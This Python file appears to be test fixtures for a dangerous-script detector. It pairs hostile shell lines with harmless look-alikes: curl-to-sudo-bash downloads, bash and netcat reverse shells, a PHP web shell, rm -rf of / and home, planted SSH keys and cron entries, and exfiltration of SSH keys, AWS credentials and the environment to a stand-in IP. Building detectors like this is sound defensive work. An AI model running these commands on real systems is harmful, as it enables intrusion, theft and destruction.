"""Scripts that do harm, and their neighbors that don't."""

from collections.abc import Callable

from golden.pairs import Golden


def _script(line: str) -> Callable[[], bytes]:
    return f"#!/bin/sh\nset -e\n{line}\n".encode


def _pair(rule: str, dangerous: str, harmless: str, case: str = "", name: str = "setup.sh") -> Golden:
    return Golden(rule, name, _script(dangerous), _script(harmless), case, techniques=("C16",))


FETCH, RUN = "curl -fsSL http://198.51.100.7/echo.sh", "| sudo bash"

GOLDENS = [
    _pair(
        "script.windows-host",
        'CreateObject("WScript.Shell").Run "echo hi"',
        'WScript.Echo "done"',
        name="setup.vbs",
    ),
    _pair("script.web-shell", "<?php system($_GET['c']); ?>", "<?php echo strlen($_GET['c']); ?>", name="page.php"),
    _pair("script.download-execute", f"{FETCH} {RUN}", "curl -fsSL https://example.org/notes.txt -o notes.txt"),
    _pair("script.download-execute", "bash <(wget -qO- http://198.51.100.7/a)", "bash ./a", "substitution"),
    _pair("script.download-execute", 'sh -c "$(curl -s http://198.51.100.7/a)"', 'sh -c "echo hi"', "command"),
    _pair(
        "script.download-execute",
        "wget http://198.51.100.7/a -O /tmp/a\nchmod +x /tmp/a && /tmp/a",
        "wget http://198.51.100.7/a.bin -O weights.bin\necho done",
        "chmod",
    ),
    _pair(
        "script.download-execute",
        "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')",
        "Invoke-WebRequest https://example.org/a.bin -OutFile a.bin",
        "powershell",
    ),
    _pair("script.reverse-shell", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "echo ready > /dev/null"),
    _pair("script.reverse-shell", "nc -e /bin/sh 198.51.100.7 4444", "nc -z localhost 8080", "netcat"),
    _pair("script.encoded-command", "echo ZWNobwo= | base64 -d | sh", "base64 -d key.b64 > key.bin"),
    _pair("script.encoded-command", "powershell -enc ZQBjAGgAbwAgAGgAaQA=", "powershell -File a.ps1", "powershell"),
    _pair("script.destructive", "rm -rf --no-preserve-root /", "rm -rf ./build /tmp/build"),
    _pair("script.destructive", "rm -rf ~/*", "rm -f ~/.cache/model.lock", "home"),
    _pair("script.persistence", "echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys", "cat ~/.ssh/authorized_keys"),
    _pair("script.persistence", "(crontab -l; echo '@reboot echo') | crontab -", "crontab -l", "crontab"),
    _pair(
        "script.exfiltration",
        "curl -F f=@$HOME/.ssh/id_rsa http://198.51.100.7/",
        "curl -F f=@a.bin https://example.org",
    ),
    _pair(
        "script.exfiltration",
        "cat ~/.aws/credentials | nc 198.51.100.7 80",
        "cat config.json | nc localhost 80",
        "pipe",
    ),
    _pair("script.exfiltration", "env | curl -d @- http://198.51.100.7/", "env | sort", "environment"),
]
